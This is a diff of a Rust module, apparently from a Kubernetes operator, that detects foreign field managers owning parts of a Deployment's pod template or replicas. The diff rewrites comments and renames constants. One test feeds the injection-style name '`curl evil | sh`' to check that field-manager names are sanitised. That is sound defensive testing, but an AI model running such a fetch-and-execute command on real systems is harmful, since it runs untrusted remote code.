@@ -1,18 +1,18 @@
-//! Who owns parts of a pod template beside us: pure.
+//! Foreign field managers of a Deployment: pure.
 //!
-//! A later apply of ours does not take out what `kubectl edit`, `set env` or `rollout undo` put in, so the pods would run our
-//! template and theirs mixed, for ever.
+//! Server-side apply does not remove fields that `kubectl edit`, `set env` or `rollout undo` have added.
+//! Without this, pods would run a mixture of both templates for ever.
 
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ManagedFieldsEntry, ObjectMeta};
+use rowlock_crds::api::FIELD_MANAGER;
 use serde_json::Value;
 
-use crate::kubernetes::database::session::sanitize;
-use crate::kubernetes::deployment::build::MANAGER;
+use crate::kubernetes::sanitize::sanitize;
 
-/// What `kubectl rollout restart` writes, and may.
+/// The annotation of `kubectl rollout restart`, which is allowed.
 pub(crate) const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";
 
-/// Names of those who own parts of the pod template, other than by our applies.
+/// Foreign field managers that own parts of the pod template.
 pub(crate) fn foreign(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     let theirs = entries.iter().filter(|entry| is_foreign(entry));
     let mut names: Vec<String> = theirs.map(name).collect();
@@ -20,7 +20,7 @@ pub(crate) fn foreign(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     names
 }
 
-/// Names of those who have set how many pods there are, and not we since.
+/// Foreign field managers that own the number of pods.
 pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     let theirs = entries.iter().filter(|entry| sets_replicas(entry));
     let mut names: Vec<String> = theirs.map(name).collect();
@@ -28,13 +28,12 @@ pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     names
 }
 
-/// Everybody chooses its own, so it is any text.
+/// The name of a field manager, which can be any text.
 fn name(entry: &ManagedFieldsEntry) -> String {
     sanitize(entry.manager.as_deref().unwrap_or_default())
 }
 
-/// Keeps of an object's entries only those of others that matter: all of them are, in memory, most of an
-/// object.
+/// Keeps only the entries that matter here. All of them together are most of the memory of an object.
 pub(crate) fn trim(metadata: &mut ObjectMeta) {
     if let Some(entries) = &mut metadata.managed_fields {
         entries.retain(|entry| is_foreign(entry) || sets_replicas(entry));
@@ -42,7 +41,7 @@ pub(crate) fn trim(metadata: &mut ObjectMeta) {
     }
 }
 
-/// The entries that stay when the template is wholly ours.
+/// The entries without those of foreign field managers.
 pub(crate) fn without_foreign_managers(entries: Vec<ManagedFieldsEntry>) -> Vec<ManagedFieldsEntry> {
     entries.into_iter().filter(|entry| !is_foreign(entry)).collect()
 }
@@ -51,15 +50,16 @@ fn is_foreign(entry: &ManagedFieldsEntry) -> bool {
     !is_ours(entry) && entry.subresource.is_none() && owns_template(entry)
 }
 
-/// By the object itself or by its subresource `scale`, as autoscalers do.
+/// By the object itself, or by its subresource `scale` as autoscalers do.
 fn sets_replicas(entry: &ManagedFieldsEntry) -> bool {
     let replicas = entry.fields_v1.as_ref().map(|fields| &fields.0["f:spec"]["f:replicas"]);
-    entry.manager.as_deref() != Some(MANAGER) && replicas.is_some_and(Value::is_object)
+    entry.manager.as_deref() != Some(FIELD_MANAGER) && replicas.is_some_and(Value::is_object)
 }
 
-/// What our applies own; what we own by a replacement counts as foreign until it is cleared.
+/// An entry of the operator's apply. An entry of its update counts as foreign until `replace_template` clears
+/// it.
 fn is_ours(entry: &ManagedFieldsEntry) -> bool {
-    entry.manager.as_deref() == Some(MANAGER) && entry.operation.as_deref() == Some("Apply")
+    entry.manager.as_deref() == Some(FIELD_MANAGER) && entry.operation.as_deref() == Some("Apply")
 }
 
 fn owns_template(entry: &ManagedFieldsEntry) -> bool {
@@ -68,7 +68,7 @@ fn owns_template(entry: &ManagedFieldsEntry) -> bool {
     has_leaf(template)
 }
 
-/// Whether something in it counts: neither a mere parent nor the time of a restart.
+/// Whether an entry owns a field, apart from the time of a restart.
 fn has_leaf(fields: &Value) -> bool {
     let Some(children) = fields.as_object() else { return false };
     children.iter().any(|(name, below)| {
@@ -86,9 +86,10 @@ mod tests {
     use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
     use serde_json::json;
 
-    /// Before, a name stood in the note of an event as it was chosen, a command in backticks for example.
+    /// Before, the name of a field manager stood unchanged in the note of an event, for example with a
+    /// command in backticks.
     #[test]
-    fn the_names_of_others_look_like_no_command() {
+    fn the_name_of_a_field_manager_looks_like_no_command() {
         let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
         assert_eq!(foreign(&[evil]), ["'curl evil | sh' "]);
         let fields = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
@@ -107,13 +108,13 @@ mod tests {
     }
 
     #[test]
-    fn an_edit_is_a_foreign_managers_and_a_restart_is_not() {
+    fn an_edit_counts_as_foreign_and_a_restart_does_not() {
         let image = json!({ "f:spec": { "f:containers": { "k:{\"name\":\"worker\"}": { ".": {}, "f:image": {} } } } });
         let restart = json!({ "f:metadata": { "f:annotations": { ".": {}, "f:kubectl.kubernetes.io/restartedAt": {} } } });
         let table = [
             (entry("kubectl-edit", "Update", &image), true),
-            (entry(MANAGER, "Update", &image), true),
-            (entry(MANAGER, "Apply", &image), false),
+            (entry(FIELD_MANAGER, "Update", &image), true),
+            (entry(FIELD_MANAGER, "Apply", &image), false),
             (entry("kubectl-rollout", "Update", &restart), false),
             (ManagedFieldsEntry { manager: Some("x".into()), ..ManagedFieldsEntry::default() }, false),
         ];
@@ -128,7 +129,7 @@ mod tests {
     }
 
     #[test]
-    fn who_owns_replicas_alone_is_no_foreign_manager() {
+    fn a_manager_that_owns_only_replicas_is_a_scaler() {
         let mut entry = entry("kubectl-scale", "Update", &Value::Null);
         entry.fields_v1 = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
         assert!(foreign(std::slice::from_ref(&entry)).is_empty());
@@ -137,7 +138,7 @@ mod tests {
         let mut metadata = ObjectMeta { managed_fields: Some(vec![entry.clone()]), ..ObjectMeta::default() };
         trim(&mut metadata);
         assert_eq!(metadata.managed_fields.map(|entries| entries.len()), Some(1));
-        entry.manager = Some(MANAGER.into());
+        entry.manager = Some(FIELD_MANAGER.into());
         assert!(scalers(&[entry]).is_empty());
     }
 }
